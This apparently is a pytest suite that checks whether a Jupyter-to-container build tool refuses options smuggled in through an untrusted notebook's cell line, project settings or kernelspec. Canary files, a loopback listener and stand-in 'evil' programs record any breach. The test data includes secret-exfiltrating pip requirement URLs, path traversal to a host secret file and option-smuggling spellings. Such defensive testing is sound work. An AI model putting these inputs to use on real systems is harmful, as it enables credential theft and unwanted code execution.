"""Notebooks of a stranger, through the command line itself: canaries stay untouched, and each control shows that one sings.

The canaries are a file that a program beside the notebook would write, a server on loopback that counts who connects,
and a folder of the host. The control gives the same option on the command line, where it is the user's own word.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from tests.fakes import bases


@dataclass
class Host:
    """A machine with a folder that holds the notebook, and the canaries around it."""

    place: Path
    listener: socket.socket
    connections: list[str] = field(default_factory=list)

    @property
    def folder(self) -> Path:
        return self.place / "stranger"

    @property
    def canary(self) -> Path:
        return self.place / "canary"

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.listener.getsockname()[1]}"

    def count(self) -> None:
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            self.connections.append("connected")
            connection.close()

    def filled(self, text: str) -> str:
        return text.replace("SERVER", self.address).replace("HOST", str(self.place / "host")).replace("EVIL", "./evil")

    def run(
        self, command: str, header: str, *words: str, body: str = "print(1)", base: str = ""
    ) -> subprocess.CompletedProcess[str]:
        cell = nbformat.v4.new_code_cell(f"{self.filled(header)}\n{self.filled(body)}")
        nbformat.write(nbformat.v4.new_notebook(cells=[cell]), self.folder / "nb.ipynb")
        where = ["--out", str(self.place / "out")] if command == "export" else []
        if command == "build":
            where = ["--base", base or str(self.place / "base.tar")]
        return subprocess.run(
            [sys.executable, "-m", "buildr_jupyter", command, "nb.ipynb", *where, *map(self.filled, words)],
            cwd=self.folder, env=self.environment(), capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip

    def environment(self) -> dict[str, str]:
        home = self.place.parent / f"{self.place.name}-home"
        return {
            "PATH": f"{self.place}/bin:{os.environ['PATH']}", "HOME": str(home), "XDG_CACHE_HOME": str(home / "cache"), "LANG": "C.UTF-8",
            "DOCKER_HOST": f"unix://{home}/none.sock", "CANARY": str(self.canary), "MY_SECRET": "the-secret",
            "BUILDR_STORE": str(home / "store"), "BUILDR_CONNECT_TIMEOUT": "5", "BUILDR_READ_TIMEOUT": "5",
        }  # fmt: skip

    def touched(self) -> list[str]:
        """Return what the canaries saw."""
        seen = [*self.connections, *(["ran"] if self.canary.exists() else [])]
        seen += sorted(path.name for path in (self.place / "host").iterdir() if path.name != "secret.txt")
        carried = [path for path in (self.place / "out").rglob("*") if path.is_file()]
        return seen + (["carried"] if any(b"host secret" in path.read_bytes() for path in carried) else [])


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        made = Host(tmp_path, listener)
        for name in ("stranger", "host", f"../{tmp_path.name}-home"):
            (tmp_path / name).mkdir()
        (tmp_path / "host" / "secret.txt").write_text("host secret")
        bases.save(tmp_path / "base.tar")
        for name in ("evil", "buildah", "podman", "buildctl", "docker-credential-evil"):
            program = made.folder / name
            program.write_text(f"#!/bin/sh\necho ran > {made.canary}\nexit 1\n")
            program.chmod(0o755)
        (tmp_path / "bin").mkdir()
        (made.folder / "buildctl").rename(tmp_path / "bin" / "buildctl")  # the user's own, where none is installed
        (made.folder / "setup.py").write_text(f"open({str(made.canary)!r}, 'w').write('ran')\n")
        threading.Thread(target=made.count, daemon=True).start()
        yield made
        listener.shutdown(socket.SHUT_RDWR)


@dataclass(frozen=True)
class Attack:
    """What a cell's line says, and what the canaries see where the user says it."""

    command: str
    option: str
    sings: str
    body: str = "print(1)"
    user: tuple[str, ...] = ()
    """What the user says as well, in both."""
    statuses: tuple[int, ...] = (0,)
    """How the command ends with the option on the cell's line."""
    said: str = ""
    """What the command says where the user says it: behind its barrier a program reaches no canary."""


ATTACKS = {
    "a check runs the cell": Attack(
        "export", "--check", "", body="raise SystemExit(3)", said="it ended with status 3"
    ),
    "a program as the builder": Attack("build", "--builder buildah=EVIL", "ran"),
    "a server as the engine": Attack("build", "--builder podman=tcp://SERVER", "connected"),
    "a server as buildkitd": Attack("build", "--builder buildkit=tcp://SERVER", "ran", user=("--output", "x.tar")),
    "a registry to push to": Attack(
        "build", "--repository SERVER/evil --quiet", "connected", user=("--publish", "--builder", "oci"), statuses=(2,)
    ),
    "a file of the host": Attack("export", "--include ../host/secret.txt", "carried"),
    "a pattern of the host": Attack("export", "--include ../ho*/*.txt", "carried"),
    "a Dockerfile of the host": Attack("export", "--dockerfile ../host/secret.txt", "carried"),
    "a context in the host's folder": Attack("build", "--context HOST/made", "made"),
    "an image in the host's folder": Attack("build", "--output HOST/made.tar", "made.tar"),
    "a base on a server": Attack("build", "--base SERVER/evil/python:3.12", "connected", user=("--builder", "oci")),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_a_cells_line_reaches_nothing(host: Host, name: str) -> None:
    attack = ATTACKS[name]
    line = f"%%containerize x {attack.option}"
    done = host.run(attack.command, line, *attack.user, body=attack.body)
    assert host.touched() == [], done.stderr
    assert done.returncode in attack.statuses, done.stderr
    assert not attack.said or attack.said not in done.stderr
    option = next(word for word in attack.option.split() if word.startswith("--"))
    assert option in done.stderr or attack.statuses != (0,), "what was left out is named"
    base = "127.0.0.1:1/base:1" if "--builder " in attack.option else ""  # an engine takes no file
    words = (*attack.user, *attack.option.split())
    done = host.run(attack.command, "%%containerize x", *words, body=attack.body, base=base)
    if attack.said:
        assert attack.said in done.stderr
        return
    assert attack.sings in host.touched(), f"the control: on the command line it is the user's word\n{done.stderr}"


SPELLINGS = (
    "--builder=buildah=EVIL", "'--builder' 'buildah=EVIL'", '"--builder=buildah=EVIL"', "--buil\\der buildah=EVIL",
    "--builder\tbuildah=EVIL", "--builder buildah=EVIL --builder buildah=EVIL", "--quiet --builder buildah=EVIL --run",
)  # fmt: skip
NOT_OURS = (
    "\u2013\u2013builder buildah=EVIL",
    "\u2014builder buildah=EVIL",
    "--build buildah=EVIL",
    "-- --builder buildah=EVIL",
)


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_spelling_of_an_option_gets_through(host: Host, spelling: str) -> None:
    done = host.run("build", f"%%containerize x {spelling}")
    assert (host.touched(), done.returncode) == ([], 0), done.stderr
    assert "--builder" in done.stderr


@pytest.mark.parametrize("spelling", NOT_OURS)
def test_what_is_no_option_is_wrong_use(host: Host, spelling: str) -> None:
    done = host.run("build", f"%%containerize x {spelling}")
    assert (host.touched(), done.returncode) == ([], 2), done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("name", ["SERVER/evil/x", "SERVER/x:1", "localhost:PORT/x"])
def test_a_name_with_a_registry_is_not_pushed_to(host: Host, name: str) -> None:
    said = name.replace("PORT", host.address.rpartition(":")[2])
    for line in (f"%%containerize {said} --quiet", f"%%containerize --name {said} --quiet"):
        done = host.run("build", line, "--publish", "--builder", "oci")
        assert (host.touched(), done.returncode) == ([], 2), done.stderr
    host.run("build", "%%containerize", "--name", said, "--publish", "--builder", "oci")
    assert host.touched()[0] == "connected", "the control"


@pytest.mark.parametrize(
    "text",
    [
        "-e .", "-e ${PWD}", ".", "./", "file:.", "x @ file:///tmp/x", "--find-links=http://SERVER/${MY_SECRET}",
        "x @ http://SERVER/${MY_SECRET}", "--extra-index-url http://SERVER/${MY_SECRET}", "-r http://SERVER/x.txt",
    ],
)  # fmt: skip
def test_no_requirement_runs_or_sends_anything(host: Host, text: str) -> None:
    quoted = f"'{text}'"
    cells = (f"%%containerize x --requirement={quoted}", "print(1)"), ("%%containerize x", f"%pip install {text}")
    for header, body in (*cells, ("%%containerize x", f"!pip install {text}\nprint(1)")):
        done = host.run("build", header, "--builder", "oci", body=body)
        assert host.touched() == [], done.stderr
        assert "Traceback" not in done.stderr
    subprocess.run([sys.executable, "setup.py"], cwd=host.folder, check=True)
    assert host.touched() == ["ran"], "the control: the folder's setup.py does run"


@pytest.mark.parametrize("setting", ["builder = 'buildah=EVIL'", "repository = 'SERVER/x'", "publish = true"])
def test_a_projects_settings_reach_nothing(host: Host, setting: str) -> None:
    (host.folder / "pyproject.toml").write_text(host.filled(f"[tool.buildr]\n{setting}\n"))
    done = host.run("build", "%%containerize x", "--publish")
    assert (host.touched(), done.returncode) == ([], 2), done.stderr


def test_a_projects_name_brings_no_registry(host: Host) -> None:
    (host.folder / "pyproject.toml").write_text(host.filled("[tool.buildr]\nname = 'SERVER/evil/x'\n"))
    done = host.run("build", "%%containerize", "--publish", "--builder", "oci")
    assert (host.touched(), done.returncode) == ([], 2), done.stderr


def test_a_projects_root_brings_nothing_unasked(host: Host) -> None:
    (host.folder / "pyproject.toml").write_text("[tool.buildr]\nroot = '..'\n")
    done = host.run("export", "%%containerize x", body="open('../host/secret.txt').read()")
    assert (host.touched(), done.returncode) == ([], 1), done.stderr
    done = host.run(
        "export", "%%containerize x", "--include", "../host/secret.txt", body="open('../host/secret.txt').read()"
    )
    assert "carried" in host.touched(), done.stderr


def test_a_kernelspec_of_the_notebook_starts_nothing_of_the_folder(host: Host) -> None:
    spec = host.folder / "share" / "jupyter" / "kernels" / "evil"
    spec.mkdir(parents=True)
    (spec / "kernel.json").write_text(f'{{"argv": ["{host.folder}/evil"], "display_name": "x", "language": "python"}}')
    made = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("%%containerize x\nprint(1)")])
    for name in ("evil", "../evil", "./evil", str(host.folder / "evil"), "a\nb", ""):
        made.metadata["kernelspec"] = {"name": name, "display_name": "x", "language": "python"}
        nbformat.write(made, host.folder / "nb.ipynb")
        done = subprocess.run(
            [sys.executable, "-m", "buildr_jupyter", "export", "nb.ipynb", "--out", str(host.place / "out")],
            cwd=host.folder, env=host.environment(), capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
        assert host.touched() == [], done.stderr
        assert "Traceback" not in done.stderr
